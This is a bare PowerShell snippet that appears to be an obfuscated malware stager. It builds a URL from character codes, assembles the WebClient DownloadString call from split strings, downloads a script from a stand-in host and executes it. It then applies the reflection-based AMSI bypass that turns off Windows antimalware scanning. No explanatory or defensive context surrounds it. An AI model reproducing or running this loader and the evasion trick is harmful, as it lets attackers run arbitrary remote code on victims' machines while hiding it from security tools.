$u = -join ([char[]](104,116,116,112,115,58,47,47) ) + 'drop-inert.example/m'
$a = 'Net.' + 'WebClient'; $s = (New-Object $a).("Down" + "loadString").Invoke($u)
& ([scriptblock]::Create($s))
[Ref].Assembly.GetType('System.Management.Automation.'+'AmsiUtils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)
